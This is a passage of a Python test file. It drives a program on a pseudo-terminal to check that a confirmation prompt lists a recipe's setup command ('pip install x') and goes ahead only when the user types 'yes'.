        if not answered and b"[y/N]" in shown:
            os.write(terminal, answer)
            answered = True
    else:
        os.kill(pid, signal.SIGKILL)
    os.close(terminal)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), shown.decode()


def test_the_question_shows_the_block_and_takes_only_a_yes(tmp_path: Path, port: socket.socket) -> None:
    path = inventory(tmp_path, SETUP, port=port.getsockname()[1])
    for answer, expected in ((b"\n", 2), (b"\x04", 2), (b"\x03", 130), (b"yes\n", 1)):
        code, shown = on_terminal(path, port, answer)
        assert code == expected, shown
        assert shown.index("this recipe can:") < shown.index("! setup      pip install x") < shown.index("[y/N]")
        assert (tmp_path / "state").exists() == (expected == 1)
    code, shown = on_terminal(path, port, b"")
    assert code == 1
    assert "[y/N]" not in shown
